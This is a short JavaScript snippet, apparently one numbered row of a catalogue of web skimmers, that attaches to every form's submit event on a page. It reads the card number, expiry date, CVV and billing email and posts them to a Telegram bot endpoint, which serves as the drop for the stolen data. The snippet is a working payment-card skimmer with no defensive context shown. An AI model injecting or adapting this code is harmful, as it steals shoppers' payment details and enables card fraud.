// Row 11: a messenger's bot as the drop.
document.querySelectorAll('form').forEach(function (f) {
  f.addEventListener('submit', async function () {
    const d = new FormData(f);
    const card = d.get('card_number') + '|' + d.get('exp_date') + '|' + d.get('cvv');
    const who = document.querySelector('#billing_email').value;
    await fetch(`https://api.telegram.org/bot${'123456:' + 'AAF-x'}/sendMessage`, {
      method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ chat_id: -100123, text: who + ' ' + card + document.querySelector('[name=cardnumber]').value })
    });
  });
});
